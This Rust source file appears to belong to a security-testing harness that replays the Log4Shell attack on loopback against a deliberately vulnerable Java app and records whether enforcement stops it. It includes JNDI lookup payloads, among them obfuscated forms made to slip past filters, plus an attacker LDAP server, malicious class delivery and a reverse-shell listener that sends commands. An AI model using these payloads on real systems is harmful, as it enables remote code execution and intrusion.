//! The runner: attacker servers up, VulnerableApp up, one request, observe, tear down.

use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use thiserror::Error;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::app::{App, AppError, AppSpec};
use crate::java::{self, JavaError, Toolchain};
use crate::journal::{Entry, Event, Journal};
use crate::ldap::{Referral, Request};
use crate::listener::EXIT;
use crate::outcome::{
    AppRecord, Attacker, Cleanup, CommandRecord, ExecRecord, Listener, Marker, Outcome,
    ProcessRecord, ServerRecord, ShellRecord, Step, StepName, Verdict,
};
use crate::payload::{self, CLASS_NAME, PayloadError};
use crate::proc_events::ProcEvents;
use crate::procfs::{self, Watcher};
use crate::{http, ldap, listener};

/// How the lookup in the request is written. Real attacks used obfuscated forms to get past
/// filters that looked for the literal "${jndi:".
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum LookupForm {
    /// `${jndi:ldap://...}`
    #[default]
    Plain,
    /// `${${lower:J}ndi:ldap://...}`
    Lower,
    /// `${${::-j}${::-n}${::-d}${::-i}:ldap://...}`
    DefaultValues,
}

impl LookupForm {
    /// The lookup string for `url`.
    pub fn render(self, url: &str) -> String {
        match self {
            LookupForm::Plain => format!("${{jndi:{url}}}"),
            LookupForm::Lower => format!("${{${{lower:J}}ndi:{url}}}"),
            LookupForm::DefaultValues => format!("${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:{url}}}"),
        }
    }
}

/// What the request to VulnerableApp carries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RequestKind {
    /// The attack: a lookup pointing at the attacker's LDAP server.
    Exploit(LookupForm),
    /// A plain string without any lookup.
    NoLookup,
    /// A lookup pointing at a loopback port where nothing listens.
    ClosedPort,
}

/// How to run the scenario. [`Config::default`] is the attack as the talk showed it.
#[derive(Debug, Clone)]
pub struct Config {
    /// What the request carries. Default: the plain exploit.
    pub request: RequestKind,
    /// Start the JVM with -Dcom.sun.jndi.ldap.object.trustURLCodebase=true. Default: true.
    pub trust_url_codebase: bool,
    /// Extra environment for the JVM (e.g. for an enforcer's agent). Default: none.
    pub app_env: Vec<(OsString, OsString)>,
    /// Extra JVM options. Default: none.
    pub jvm_args: Vec<OsString>,
    /// A cgroup (folder or its cgroup.procs file) to move the JVM into once it listens and
    /// before the exploit request is sent. Default: none.
    pub cgroup: Option<PathBuf>,
    /// The JDK to use. Default: found on JAVA_HOME / PATH at run time.
    pub toolchain: Option<Toolchain>,
    /// Where compiled classes are kept. Default: `<workspace>/target/scenarios/log4shell/classes`.
    pub classes_dir: PathBuf,
    /// Where the shell is told to write its marker. Default: a fresh folder under the
    /// system temp dir, removed afterwards.
    pub marker_dir: Option<PathBuf>,
    /// How long the JVM may take to listen. Default: 60 s (a JVM under TCG is slow).
    pub app_start_timeout: Duration,
    /// How long the chain may take from the request to the shell's exit. Default: 30 s.
    pub chain_timeout: Duration,
    /// How often the process watcher polls. Default: 1 ms.
    pub watch_interval: Duration,
    /// Tear down and return [`ScenarioError::Interrupted`] on SIGINT/SIGTERM. Installing the
    /// handlers is process-wide and permanent, so only a binary should set it. Default: false.
    pub handle_signals: bool,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            request: RequestKind::Exploit(LookupForm::Plain),
            trust_url_codebase: true,
            app_env: Vec::new(),
            jvm_args: Vec::new(),
            cgroup: None,
            toolchain: None,
            classes_dir: default_output_dir().join("classes"),
            marker_dir: None,
            app_start_timeout: Duration::from_secs(60),
            chain_timeout: Duration::from_secs(30),
            watch_interval: Duration::from_millis(1),
            handle_signals: false,
        }
    }
}

/// `<workspace>/target/scenarios/log4shell`.
pub fn default_output_dir() -> PathBuf {
    // CARGO_MANIFEST_DIR is <workspace>/scenarios/log4shell.
    let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
    let workspace = manifest.ancestors().nth(2).unwrap_or(manifest);
    workspace.join("target/scenarios/log4shell")
}

/// Why the scenario could not run at all (as opposed to an attack that failed, which is an
/// [`Outcome`]).
#[derive(Debug, Error)]
pub enum ScenarioError {
    /// The JDK is missing or the Java sources did not compile.
    #[error(transparent)]
    Java(#[from] JavaError),
    /// The payload class could not be prepared.
    #[error(transparent)]
    Payload(#[from] PayloadError),
    /// The app did not start or could not be placed.
    #[error(transparent)]
    App(#[from] AppError),
    /// A local resource failed (sockets, runtime, marker folder).
    #[error("{what}: {source}")]
    Io {
        /// What was being done.
        what: String,
        /// The cause.
        source: std::io::Error,
    },
    /// SIGINT or SIGTERM arrived; everything was torn down.
    #[error("interrupted by {0}; everything started was torn down")]
    Interrupted(&'static str),
}

fn io_err(what: impl Into<String>) -> impl FnOnce(std::io::Error) -> ScenarioError {
    let what = what.into();
    move |source| ScenarioError::Io { what, source }
}

/// The scenario.
#[derive(Debug, Default)]
pub struct Scenario;

impl Scenario {
    /// Runs the scenario once. Every process it starts is gone when this returns, whatever
    /// happened; [`Outcome::cleanup`] says what teardown found.
    pub fn run(config: &Config) -> Result<Outcome, ScenarioError> {
        let started = Instant::now();
        let toolchain = match &config.toolchain {
            Some(t) => t.clone(),
            None => Toolchain::locate()?,
        };
        let classes = java::build(&toolchain, &java::source_dir(), &config.classes_dir)?;
        let class_bytes = std::fs::read(&classes.payload_class).map_err(io_err(format!(
            "reading {}",
            classes.payload_class.display()
        )))?;
        let marker_root = match &config.marker_dir {
            Some(d) => d.clone(),
            None => std::env::temp_dir().join(format!(
                "veto-log4shell-{}-{}",
                std::process::id(),
                started.elapsed().as_nanos() ^ u128::from(unique())
            )),
        };
        std::fs::create_dir_all(&marker_root)
            .map_err(io_err(format!("creating {}", marker_root.display())))?;
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .map_err(io_err("starting the async runtime"))?;
        let ctx = RunContext {
            config,
            toolchain: &toolchain,
            app_classpath: &classes.app,
            class_bytes,
            marker_root: &marker_root,
            started,
        };
        let result = runtime.block_on(async {
            if config.handle_signals {
                let mut int =
                    tokio::signal::unix::signal(tokio::signal::unix::SignalKind::interrupt())
                        .map_err(io_err("installing the SIGINT handler"))?;
                let mut term =
                    tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate())
                        .map_err(io_err("installing the SIGTERM handler"))?;
                tokio::select! {
                    r = ctx.attack() => r,
                    _ = int.recv() => Err(ScenarioError::Interrupted("SIGINT")),
                    _ = term.recv() => Err(ScenarioError::Interrupted("SIGTERM")),
                }
            } else {
                ctx.attack().await
            }
        });
        // Dropping the runtime closes the servers' sockets.
        drop(runtime);
        let _ = std::fs::remove_dir_all(&marker_root);
        let (mut outcome, teardown_started) = result?;
        // By socket inode, not port number: once closed, a port may at once be taken by an
        // unrelated socket (another run in parallel), which is not a leftover of this one.
        let rows = procfs::tcp_rows();
        outcome.cleanup.ports_listening = outcome
            .cleanup
            .listeners
            .iter()
            .filter(|l| rows.iter().any(|r| r.inode == l.inode))
            .map(|l| l.port)
            .collect();
        outcome.cleanup.teardown_ms = ms(teardown_started.elapsed());
        outcome.wall_ms = ms(started.elapsed());
        Ok(outcome)
    }
}

fn unique() -> u64 {
    use std::sync::atomic::{AtomicU64, Ordering};
    static NEXT: AtomicU64 = AtomicU64::new(0);
    NEXT.fetch_add(1, Ordering::Relaxed)
}

fn ms(d: Duration) -> f64 {
    (d.as_secs_f64() * 1e6).round() / 1e3
}

struct RunContext<'a> {
    config: &'a Config,
    toolchain: &'a Toolchain,
    app_classpath: &'a Path,
    class_bytes: Vec<u8>,
    marker_root: &'a Path,
    started: Instant,
}

/// Sends `GET <target>` and returns the status line.
async fn http_get(port: u16, target: &str) -> std::io::Result<String> {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).await?;
    let request =
        format!("GET {target} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).await?;
    let mut response = Vec::new();
    stream.read_to_end(&mut response).await?;
    let text = String::from_utf8_lossy(&response);
    text.lines()
        .next()
        .filter(|l| l.starts_with("HTTP/"))
        .map(str::to_string)
        .ok_or_else(|| std::io::Error::other("no HTTP status line in the response"))
}

/// Percent-encodes a query value (everything but unreserved characters).
fn url_encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// A loopback port with nothing listening on it (bound once, then released).
fn closed_port() -> std::io::Result<u16> {
    let l = std::net::TcpListener::bind("127.0.0.1:0")?;
    Ok(l.local_addr()?.port())
}

impl RunContext<'_> {
    async fn attack(&self) -> Result<(Outcome, Instant), ScenarioError> {
        let journal = Journal::default();
        // Attacker side first, on free loopback ports.
        let ldap_l = ldap::bind()
            .await
            .map_err(io_err("binding the LDAP server"))?;
        let http_l = http::bind()
            .await
            .map_err(io_err("binding the class server"))?;
        let shell_l = listener::bind()
            .await
            .map_err(io_err("binding the listener"))?;
        let port_of = |l: &tokio::net::TcpListener| l.local_addr().map(|a| a.port());
        let ldap_port = port_of(&ldap_l).map_err(io_err("LDAP address"))?;
        let http_port = port_of(&http_l).map_err(io_err("class server address"))?;
        let listener_port = port_of(&shell_l).map_err(io_err("listener address"))?;

        let class = payload::with_listener_port(&self.class_bytes, listener_port)?;
        let referral = Referral {
            codebase: format!("http://127.0.0.1:{http_port}/"),
            factory: CLASS_NAME.into(),
        };
        let token = format!("veto-log4shell-{}-{}", std::process::id(), unique());
        let marker_path = self.marker_root.join("marker");
        let commands = vec![
            "id".to_string(),
            "echo pid=$$ ppid=$PPID exe=$(readlink /proc/$$/exe)".to_string(),
            // Where the shell runs, for enforcement that confines the app to a cgroup.
            "cat /proc/$$/cgroup".to_string(),
            format!("echo {token} > {}", marker_path.display()),
            EXIT.to_string(),
        ];
        let servers = [
            tokio::spawn(ldap::serve(ldap_l, Arc::new(referral), journal.clone())),
            tokio::spawn(http::serve(
                http_l,
                format!("/{CLASS_NAME}.class"),
                Arc::new(class),
                journal.clone(),
            )),
            tokio::spawn(listener::serve(shell_l, commands.clone(), journal.clone())),
        ];
        let _abort = AbortOnDrop(&servers);

        // The victim.
        let spec = AppSpec {
            java: self.toolchain.java.clone(),
            classpath: self.app_classpath.to_path_buf(),
            trust_url_codebase: self.config.trust_url_codebase,
            jvm_args: self.config.jvm_args.clone(),
            env: self.config.app_env.clone(),
        };
        let mut app = App::spawn(&spec, &journal)?;
        let app_port = app
            .wait_ready(&journal, self.config.app_start_timeout)
            .await?;
        if let Some(cgroup) = &self.config.cgroup {
            app.move_to_cgroup(cgroup)?;
        }
        // Every listening socket on the scenario's ports is this run's: the ports are bound.
        let ports = [ldap_port, http_port, listener_port, app_port];
        let listeners: Vec<Listener> = procfs::tcp_rows()
            .into_iter()
            .filter(|r| r.state == procfs::TCP_LISTEN && ports.contains(&r.local.port()))
            .map(|r| Listener {
                port: r.local.port(),
                inode: r.inode,
            })
            .collect();
        let watcher = Watcher::start(app.pid, self.config.watch_interval, journal.clone());
        let (proc_events, exec_trace_source) = match ProcEvents::start(app.pid, journal.clone()) {
            Ok(p) => (
                Some(p),
                "kernel process events connector (netlink)".to_string(),
            ),
            Err(e) => (None, format!("{e}; only polled sightings are available")),
        };

        // The request.
        let lookup = match self.config.request {
            RequestKind::Exploit(form) => {
                Some(form.render(&format!("ldap://127.0.0.1:{ldap_port}/{CLASS_NAME}")))
            }
            RequestKind::ClosedPort => {
                let port = closed_port().map_err(io_err("finding a closed port"))?;
                Some(LookupForm::Plain.render(&format!("ldap://127.0.0.1:{port}/{CLASS_NAME}")))
            }
            RequestKind::NoLookup => None,
        };
        let q = lookup
            .clone()
            .unwrap_or_else(|| "hello from the scenario".into());
        let target = format!("/?q={}", url_encode(&q));
        let setup_ms = ms(self.started.elapsed());
        let t0 = Instant::now();
        let deadline = tokio::time::Instant::from_std(t0 + self.config.chain_timeout);
        let response = match tokio::time::timeout_at(deadline, http_get(app_port, &target)).await {
            Ok(Ok(status)) => status,
            Ok(Err(e)) => format!("no response: {e}"),
            Err(_) => "no response before the deadline".into(),
        };

        // The lookup and the class fetch run inside the request, so they are final now. The
        // shell runs on its own: wait for it unless nothing it could be is alive any more.
        let fetched = journal
            .find(|e| matches!(e, Event::HttpRequest { status: 200, .. }))
            .is_some();
        let mut connected = None;
        if fetched {
            connected = self.wait_for_shell(&journal, &app, deadline).await;
        }
        if connected.is_some() {
            journal
                .wait_for(
                    |e| matches!(e, Event::ShellClosed | Event::ShellError(_)),
                    deadline,
                )
                .await;
        }

        // Does the app still serve?
        let survived = app.is_running()
            && matches!(
                tokio::time::timeout(Duration::from_secs(10), http_get(app_port, "/?q=health")).await,
                Ok(Ok(ref s)) if s.contains(" 200")
            );
        drop(watcher);
        drop(proc_events);
        let teardown_started = Instant::now();
        let processes_left = app.kill(Duration::from_secs(2));
        let app_pid = app.pid;
        drop(app);
        drop(_abort);

        let marker_written = std::fs::read_to_string(&marker_path)
            .map(|c| c.trim_end() == token)
            .unwrap_or(false);
        let entries = journal.snapshot();
        let rel = |at: Instant| ms(at.saturating_duration_since(t0));
        let mut outcome = Outcome {
            scenario: "log4shell",
            verdict: Verdict::NotCompromised,
            failed_step: None,
            steps: Vec::new(),
            shell: shell_record(&entries, t0),
            commands: command_records(&entries, &commands, rel),
            marker: Marker {
                path: marker_path.display().to_string(),
                token,
                written: marker_written,
            },
            processes: entries
                .iter()
                .filter_map(|e| match &e.event {
                    Event::Process(s) => Some(ProcessRecord {
                        at_ms: rel(e.at),
                        pid: s.pid,
                        ppid: s.ppid,
                        exe: s.exe.clone(),
                        cmdline: s.cmdline.clone(),
                    }),
                    _ => None,
                })
                .collect(),
            exec_trace: exec_trace(&entries, &rel),
            exec_trace_source,
            app: AppRecord {
                pid: app_pid,
                port: app_port,
                command: std::iter::once(spec.java.display().to_string())
                    .chain(spec.args().iter().map(|a| a.to_string_lossy().into_owned()))
                    .collect(),
                cgroup: self.config.cgroup.as_ref().map(|p| p.display().to_string()),
                response,
                survived,
                log: entries
                    .iter()
                    .filter_map(|e| match &e.event {
                        Event::AppStdout(l) => Some(l.clone()),
                        Event::AppStderr(l) => Some(format!("stderr: {l}")),
                        _ => None,
                    })
                    .collect(),
            },
            attacker: Attacker {
                ldap_port,
                http_port,
                listener_port,
                lookup,
                served: served_records(&entries, rel),
            },
            cleanup: Cleanup {
                processes_left,
                listeners,
                ..Cleanup::default()
            },
            setup_ms,
            wall_ms: 0.0,
        };
        outcome.steps = steps(&outcome, &entries, &target, rel);
        outcome.failed_step = outcome.steps.iter().find(|s| !s.observed).map(|s| s.name);
        let ran_commands = outcome.step(StepName::FirstCommand).observed || marker_written;
        outcome.verdict = if ran_commands {
            Verdict::Compromised
        } else {
            Verdict::NotCompromised
        };
        Ok((outcome, teardown_started))
    }

    /// Waits for the shell's connection. Gives up early once, a second after the response,
    /// nothing but the JVM is left in the app's process group: no shell can connect then.
    async fn wait_for_shell(
        &self,
        journal: &Journal,
        app: &App,
        deadline: tokio::time::Instant,
    ) -> Option<Entry> {
        let quiet_since = tokio::time::Instant::now();
        loop {
            let step = (tokio::time::Instant::now() + Duration::from_millis(100)).min(deadline);
            if let Some(e) = journal
                .wait_for(|e| matches!(e, Event::ShellConnected { .. }), step)
                .await
            {
                return Some(e);
            }
            if tokio::time::Instant::now() >= deadline {
                return None;
            }
            let others_alive = procfs::group_members(app.pid)
                .iter()
                .any(|p| p.pid != app.pid && p.state != 'Z');
            if !others_alive && quiet_since.elapsed() > Duration::from_secs(1) {
                return None;
            }
        }
    }
}

/// The shell as the listener found it on accept, with every exec the watcher saw for it.
fn shell_record(entries: &[Entry], t0: Instant) -> Option<ShellRecord> {
    let (peer, holders) = entries.iter().find_map(|e| match &e.event {
        Event::ShellOwner { peer, holders } => Some((*peer, holders.clone())),
        _ => None,
    })?;
    let pid = holders.first().map(|p| p.pid).unwrap_or(0);
    let exe_at_connect = holders.first().map(|p| p.exe.clone()).unwrap_or_default();
    let parent_chain = holders;
    let exe_history = entries
        .iter()
        .filter_map(|e| match &e.event {
            Event::Process(s) if s.pid == pid => Some(ProcessRecord {
                at_ms: ms(e.at.saturating_duration_since(t0)),
                pid: s.pid,
                ppid: s.ppid,
                exe: s.exe.clone(),
                cmdline: s.cmdline.clone(),
            }),
            _ => None,
        })
        .collect();
    Some(ShellRecord {
        pid,
        exe_at_connect,
        exe_history,
        parent_chain,
        local_addr: peer.to_string(),
    })
}

struct AbortOnDrop<'a>(&'a [tokio::task::JoinHandle<()>]);

impl Drop for AbortOnDrop<'_> {
    fn drop(&mut self) {
        for h in self.0 {
            h.abort();
        }
    }
}

fn command_records(
    entries: &[Entry],
    commands: &[String],
    rel: impl Fn(Instant) -> f64,
) -> Vec<CommandRecord> {
    let at = |pred: &dyn Fn(&Event) -> bool| entries.iter().find(|e| pred(&e.event)).map(|e| e.at);
    commands
        .iter()
        .filter_map(|cmd| {
            let sent = at(&|e| matches!(e, Event::CommandSent { command } if command == cmd))?;
            let first =
                at(&|e| matches!(e, Event::CommandFirstOutput { command } if command == cmd));
            let done = entries.iter().find_map(|e| match &e.event {
                Event::CommandDone { command, output } if command == cmd => {
                    Some((e.at, output.clone()))
                }
                _ => None,
            });
            Some(CommandRecord {
                command: cmd.clone(),
                sent_ms: rel(sent),
                first_output_ms: first.map(&rel),
                done_ms: done.as_ref().map(|(t, _)| rel(*t)),
                output: done.map(|(_, o)| o),
            })
        })
        .collect()
}

fn exec_trace(entries: &[Entry], rel: &impl Fn(Instant) -> f64) -> Vec<ExecRecord> {
    let mut out: Vec<ExecRecord> = entries
        .iter()
        .filter_map(|e| {
            let blank = |kind, pid| ExecRecord {
                at_ms: rel(e.at),
                kind,
                pid,
                parent: None,
                exe: None,
                cmdline: None,
                code: None,
            };
            Some(match &e.event {
                Event::Fork { parent, child } => ExecRecord {
                    parent: Some(*parent),
                    ..blank("fork", *child)
                },
                Event::Exec { pid, exe, cmdline } => ExecRecord {
                    exe: Some(exe.clone()),
                    cmdline: Some(cmdline.clone()),
                    ..blank("exec", *pid)
                },
                Event::Exit { pid, code } => ExecRecord {
                    code: Some(*code),
                    ..blank("exit", *pid)
                },
                _ => return None,
            })
        })
        .collect();
    out.sort_by(|a, b| a.at_ms.total_cmp(&b.at_ms));
    out
}

fn served_records(entries: &[Entry], rel: impl Fn(Instant) -> f64) -> Vec<ServerRecord> {
    entries
        .iter()
        .filter_map(|e| {
            let what = match &e.event {
                Event::LdapConnection { peer } => format!("ldap: connection from {peer}"),
                Event::LdapRequest { peer, request, raw } => format!(
                    "ldap: {request:?} from {peer}, bytes {}",
                    raw.iter().map(|b| format!("{b:02x}")).collect::<String>()
                ),
                Event::LdapError { peer, error } => format!("ldap: {peer}: {error}"),
                Event::HttpRequest {
                    peer,
                    path,
                    status,
                    bytes,
                } => format!("http: GET {path} from {peer} -> {status}, {bytes} bytes"),
                _ => return None,
            };
            Some(ServerRecord {
                at_ms: rel(e.at),
                what,
            })
        })
        .collect()
}

/// The path the JVM resolves /bin/sh to (dash on Debian), for recognising the shell.
fn is_shell(exe: &str, cmdline: &[String]) -> bool {
    let sh = std::fs::canonicalize("/bin/sh")
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    exe == sh || cmdline.first().is_some_and(|a| a == "/bin/sh")
}

fn steps(o: &Outcome, entries: &[Entry], target: &str, rel: impl Fn(Instant) -> f64) -> Vec<Step> {
    let first = |pred: &dyn Fn(&Event) -> bool| entries.iter().find(|e| pred(&e.event));
    let step = |name, entry: Option<&Entry>, detail: String| Step {
        name,
        observed: entry.is_some(),
        at_ms: entry.map(|e| rel(e.at)),
        detail,
    };
    let mut out = vec![Step {
        name: StepName::RequestSent,
        observed: true,
        at_ms: Some(0.0),
        detail: format!("GET {target} -> {}", o.app.response),
    }];

    let search = first(&|e| {
        matches!(
            e,
            Event::LdapRequest {
                request: Request::Search { .. },
                ..
            }
        )
    });
    let detail = match search.map(|e| &e.event) {
        Some(Event::LdapRequest {
            peer,
            request: Request::Search { base, .. },
            ..
        }) => format!("search base \"{base}\" from {peer}"),
        _ => match &o.attacker.lookup {
            None => "no lookup in the request".into(),
            Some(_) => {
                let status = o
                    .app
                    .log
                    .iter()
                    .find(|l| l.contains("log4j-status ERROR"))
                    .cloned()
                    .unwrap_or_else(|| "the LDAP server saw no search".into());
                format!("lookup did not reach the attacker's LDAP server: {status}")
            }
        },
    };
    out.push(step(StepName::LdapSearch, search, detail));

    let fetch = first(&|e| matches!(e, Event::HttpRequest { status: 200, .. }));
    let detail = match fetch.map(|e| &e.event) {
        Some(Event::HttpRequest {
            path, bytes, peer, ..
        }) => {
            format!("GET {path} ({bytes} bytes) from {peer}")
        }
        _ => "the class server sent no class".into(),
    };
    out.push(step(StepName::ClassFetch, fetch, detail));

    // The shell's process is seen from its fork on: on JDK 17 the child first shows the
    // JVM's own image, then jspawnhelper, then /bin/sh. The step counts from the first
    // sighting of the process that became the shell (the one holding the connection, else
    // any child seen running /bin/sh); the detail lists every image seen for it. Sightings
    // come from polling, so this time can lag the real fork by a poll interval or more on
    // a busy machine, and may even land after the connection.
    let shell_pid = o.shell.as_ref().map(|s| s.pid).or_else(|| {
        o.exec_trace
            .iter()
            .find(|r| {
                r.kind == "exec"
                    && is_shell(
                        r.exe.as_deref().unwrap_or(""),
                        r.cmdline.as_deref().unwrap_or(&[]),
                    )
            })
            .map(|r| r.pid)
            .or_else(|| {
                o.processes
                    .iter()
                    .find(|p| is_shell(&p.exe, &p.cmdline))
                    .map(|p| p.pid)
            })
    });
    // Exact, from the kernel: the shell pid's exec into /bin/sh.
    let exact = o.exec_trace.iter().find(|r| {
        r.kind == "exec"
            && Some(r.pid) == shell_pid
            && is_shell(
                r.exe.as_deref().unwrap_or(""),
                r.cmdline.as_deref().unwrap_or(&[]),
            )
    });
    if let Some(exec) = exact {
        let fork = o
            .exec_trace
            .iter()
            .find(|r| r.kind == "fork" && r.pid == exec.pid);
        let images: Vec<&str> = o
            .exec_trace
            .iter()
            .filter(|r| r.kind == "exec" && r.pid == exec.pid)
            .filter_map(|r| r.exe.as_deref())
            .collect();
        let polled: Vec<&str> = o
            .processes
            .iter()
            .filter(|p| p.pid == exec.pid)
            .map(|p| p.exe.as_str())
            .collect();
        out.push(Step {
            name: StepName::ShellSpawn,
            observed: true,
            at_ms: Some(exec.at_ms),
            detail: format!(
                "pid {} exec'd /bin/sh (kernel event){}; {} exec(s) of this pid: {} (images read on arrival); polled images: {}",
                exec.pid,
                fork.map(|f| format!(", forked by {} at {:.1} ms", f.parent.unwrap_or(0), f.at_ms))
                    .unwrap_or_default(),
                images.len(),
                images.join(" -> "),
                polled.join(" -> ")
            ),
        });
    } else {
        let ran_sh = o
            .processes
            .iter()
            .any(|p| Some(p.pid) == shell_pid && is_shell(&p.exe, &p.cmdline))
            || o.shell.is_some();
        let spawn = first(&|e| matches!(e, Event::Process(s) if Some(s.pid) == shell_pid))
            .filter(|_| ran_sh);
        let detail = match spawn.map(|e| &e.event) {
            Some(Event::Process(s)) => {
                let execs: Vec<&str> = o
                    .processes
                    .iter()
                    .filter(|p| p.pid == s.pid)
                    .map(|p| p.exe.as_str())
                    .collect();
                format!(
                    "pid {}, child of {}; images seen for this pid: {}",
                    s.pid,
                    s.ppid,
                    execs.join(" -> ")
                )
            }
            _ => "no /bin/sh was seen under the JVM".into(),
        };
        out.push(step(StepName::ShellSpawn, spawn, detail));
    }

    let connect = first(&|e| matches!(e, Event::ShellConnected { .. }));
    let detail = match &o.shell {
        // Polling cannot order an exec against the connect to the millisecond, so the
        // detail lists the images rather than guessing which one called connect(); by the
        // payload's construction it is bash's /dev/tcp redirection.
        Some(s) => format!(
            "from {} held by pid {} (images: {}; {} when /proc was read on accept)",
            s.local_addr,
            s.pid,
            s.exe_history
                .iter()
                .map(|p| p.exe.as_str())
                .collect::<Vec<_>>()
                .join(" -> "),
            s.exe_at_connect
        ),
        None => "nothing connected to the listener".into(),
    };
    out.push(step(StepName::ShellConnect, connect, detail));

    let id = first(&|e| matches!(e, Event::CommandFirstOutput { command } if command == "id"));
    let detail = match o.output_of("id") {
        Some(out) => format!("id -> {}", out.trim_end()),
        None => "no output for `id`".into(),
    };
    out.push(step(StepName::FirstCommand, id, detail));

    let marker_cmd = o
        .commands
        .iter()
        .find(|c| c.command.starts_with("echo veto-log4shell-"));
    let marker_entry = if o.marker.written {
        marker_cmd.and_then(|c| {
            first(&|e| matches!(e, Event::CommandDone { command, .. } if *command == c.command))
        })
    } else {
        None
    };
    let detail = if o.marker.written {
        format!("{} holds the token", o.marker.path)
    } else {
        format!("{} not written", o.marker.path)
    };
    let mut marker_step = step(StepName::MarkerWritten, marker_entry, detail);
    marker_step.observed = o.marker.written;
    out.push(marker_step);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lookup_forms_render_as_attackers_wrote_them() {
        let url = "ldap://127.0.0.1:1389/a";
        assert_eq!(
            LookupForm::Plain.render(url),
            "${jndi:ldap://127.0.0.1:1389/a}"
        );
        assert_eq!(
            LookupForm::Lower.render(url),
            "${${lower:J}ndi:ldap://127.0.0.1:1389/a}"
        );
        assert_eq!(
            LookupForm::DefaultValues.render(url),
            "${${::-j}${::-n}${::-d}${::-i}:ldap://127.0.0.1:1389/a}"
        );
    }

    #[test]
    fn query_values_are_percent_encoded() {
        assert_eq!(url_encode("${jndi:x/y}"), "%24%7Bjndi%3Ax%2Fy%7D");
        assert_eq!(url_encode("a b"), "a%20b");
    }
}
